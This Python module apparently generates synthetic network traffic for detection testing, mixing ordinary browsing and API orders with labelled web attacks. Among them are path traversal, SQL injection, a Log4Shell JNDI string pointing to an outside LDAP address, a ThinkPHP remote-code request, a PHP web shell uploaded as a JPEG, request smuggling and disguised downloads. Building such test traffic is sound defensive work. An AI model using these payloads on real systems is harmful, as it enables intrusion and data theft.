# SPDX-License-Identifier: GPL-2.0-only
"""Web traffic: pages and services of the platforms, and attacks on them."""

import base64
import json
from collections.abc import Iterator
from urllib.parse import quote

from network import Attack
from samples import EICAR, PNG, WEB_SHELL, linux_program, program, squeezed
from scene import BACK, FORTH, SITES, Timed, Town, Turn

BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36"
PORTAL = "10.20.1.80"
SHOP = "10.20.5.80"


def request(
    target: str,
    host: str,
    *,
    method: str = "GET",
    agent: str = BROWSER,
    headers: dict[str, str] | None = None,
    body: bytes = b"",
) -> bytes:
    fields = {"Host": host, "User-Agent": agent, "Accept": "*/*", **(headers or {})}
    if body:
        fields.setdefault("Content-Length", str(len(body)))
    lines = [f"{method} {target} HTTP/1.1", *(f"{name}: {value}" for name, value in fields.items())]
    return "\r\n".join([*lines, "", ""]).encode() + body


def answer(
    body: bytes = b"", kind: str = "text/html; charset=utf-8", status: str = "200 OK", **headers: str
) -> bytes:
    fields = {"Server": "nginx", "Content-Type": kind, "Content-Length": str(len(body)), **headers}
    lines = [f"HTTP/1.1 {status}", *(f"{name.replace('_', '-')}: {value}" for name, value in fields.items())]
    return "\r\n".join([*lines, "", ""]).encode() + body


def form(name: str, file: str, kind: str, content: bytes) -> tuple[dict[str, str], bytes]:
    """A file as browsers upload it (RFC 7578): headers and body."""
    edge = "----town7MA4YWxk"
    head = (
        f'--{edge}\r\nContent-Disposition: form-data; name="{name}"; filename="{file}"\r\n'
        f"Content-Type: {kind}\r\n\r\n"
    )
    body = head.encode() + content + f"\r\n--{edge}--\r\n".encode()
    return {"Content-Type": f"multipart/form-data; boundary={edge}"}, body


def page(town: Town, name: str) -> bytes:
    rows = "".join(f"<tr><td>{town.random.randrange(10**6)}</td></tr>" for _ in range(40))
    return f"<!doctype html><html><head><title>{name}</title></head><body><table>{rows}</table></body></html>".encode()


def browsing(town: Town, at: float, client: str, server: str, name: str) -> Iterator[Timed]:
    """One connection of a browser: a page, compressed or not, and a picture."""
    content = page(town, name)
    packed = town.random.random() < 0.5
    first = answer(squeezed(content), Content_Encoding="gzip") if packed else answer(content)
    yield from town.talk(
        at,
        client,
        server,
        80,
        [
            (FORTH, request("/", name)),
            (BACK, first),
            (FORTH, request("/static/logo.png", name, headers={"Referer": f"http://{name}/"})),
            (BACK, answer(PNG, "image/png")),
        ],
    )


def order(town: Town, at: float) -> Iterator[Timed]:
    """An order between the trade platform's services."""
    body = json.dumps(
        {"sku": f"tea-{town.random.randrange(999)}", "count": town.random.randrange(1, 9)}
    ).encode()
    ask = request(
        "/api/v1/orders",
        "api.trade.example.net",
        method="POST",
        agent="trade-gateway/2.4",
        headers={"Content-Type": "application/json"},
        body=body,
    )
    given = answer(b'{"accepted":true}', "application/json", "201 Created")
    yield from town.visit(at, town.inside("trade"), SHOP, 80, ask, given)


def everyday(town: Town) -> Iterator[Timed]:
    for _ in range(int(town.seconds)):
        name = town.random.choice(SITES)
        yield from browsing(town, town.moment(), town.inside(), town.outside(), name)
        yield from order(town, town.moment())


def attack(
    target: str,
    reply: bytes,
    *,
    server: str = PORTAL,
    host: str = "www.gov.example.cn",
    method: str = "GET",
    agent: str = BROWSER,
    headers: dict[str, str] | None = None,
    body: bytes = b"",
) -> Attack:
    """One request from outside, and what came back."""

    def play(town: Town) -> Iterator[Timed]:
        asked = request(target, host, method=method, agent=agent, headers=headers, body=body)
        yield from town.visit(town.moment(), town.outside(), server, 80, asked, reply)

    return play


def download(target: str, name: str, content: bytes, kind: str, agent: str = BROWSER) -> Attack:
    """A client inside fetches a file from a server outside; no name: from its bare address."""

    def play(town: Town) -> Iterator[Timed]:
        server = town.outside()
        asked = request(target, name or server, agent=agent)
        yield from town.visit(
            town.moment(), town.inside("callcentre"), server, 80, asked, answer(content, kind)
        )

    return play


def scanner(town: Town) -> Iterator[Timed]:
    """A directory search that names itself."""
    agent = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"
    turns: list[Turn] = []
    for path in ("/admin/", "/phpmyadmin/", "/.git/HEAD", "/backup.zip"):
        turns += [
            (FORTH, request(path, "www.gov.example.cn", agent=agent)),
            (BACK, answer(b"no", status="404 Not Found")),
        ]
    yield from town.talk(town.moment(), town.outside(), PORTAL, 80, turns)


def smuggling(town: Town) -> Iterator[Timed]:
    """Two lengths in one request: front and back disagree where it ends (RFC 9112 11.2)."""
    hidden = b"0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"
    asked = request(
        "/", "www.gov.example.cn", method="POST", headers={"Transfer-Encoding": "chunked"}, body=hidden
    )
    yield from town.visit(town.moment(), town.outside(), PORTAL, 80, asked, answer(b"ok"))


def relay(town: Town) -> Iterator[Timed]:
    """A stranger reaches a mail server through our proxy."""
    asked = b"CONNECT mail.example.org:25 HTTP/1.1\r\nHost: mail.example.org:25\r\n\r\n"
    turns = [
        (FORTH, asked),
        (BACK, b"HTTP/1.1 200 Connection established\r\n\r\n"),
        (BACK, b"220 mail.example.org ESMTP\r\n"),
    ]
    yield from town.talk(town.moment(), town.outside(), "10.20.8.8", 3128, turns)


def basic(name: str, password: str) -> dict[str, str]:
    return {"Authorization": "Basic " + base64.b64encode(f"{name}:{password}".encode()).decode()}


SHELL_ANSWER = b"<pre>uid=33(www-data) gid=33(www-data) groups=33(www-data)\n</pre>"
UPLOAD_HEADERS, UPLOAD_BODY = form("avatar", "me.php", "image/jpeg", WEB_SHELL)

ATTACKS: dict[str, Attack] = {
    "web-traversal": attack(
        "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd", answer(b"root:x:0:0:root:/root:/bin/sh\n")
    ),
    "web-sql-injection": attack(
        "/list?id=" + quote("1 UNION ALL SELECT user,password FROM information_schema.tables-- "),
        answer(b"[]"),
    ),
    "web-log4shell": attack(
        "/", answer(b"ok"), headers={"X-Api-Version": "${jndi:ldap://203.0.113.9:1389/a}"}
    ),
    "web-thinkphp": attack(
        "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1",
        answer(b"ok"),
    ),
    "web-shell": attack(
        "/uploads/me.php?x=id", answer(SHELL_ANSWER), server=SHOP, host="shop.trade.example.net"
    ),
    "web-scanner": scanner,
    "web-smuggling": smuggling,
    "web-basic-login": attack("/manage/", answer(b"ok"), headers=basic("keeper", "not-a-real-one")),
    "web-open-proxy": relay,
    "web-upload": attack(
        "/profile",
        answer(b"saved"),
        server=SHOP,
        host="shop.trade.example.net",
        method="POST",
        headers=UPLOAD_HEADERS,
        body=UPLOAD_BODY,
    ),
    "web-powershell": download(
        "/a.ps1",
        "cdn.files.example",
        b"Write-Output 'nothing'\n",
        "text/plain",
        "Mozilla/5.0 (Windows NT; Windows NT 10.0; zh-CN) WindowsPowerShell/5.1.19041.1682",
    ),
    "web-miner": download("/x/kdevtmpfsi", "", linux_program(), "application/octet-stream", "curl/7.61.1"),
    "web-disguise": download("/holiday.jpg", "pictures.example", program(), "image/jpeg"),
    "web-eicar": download("/eicar.com", "files.example", EICAR, "application/octet-stream"),
}
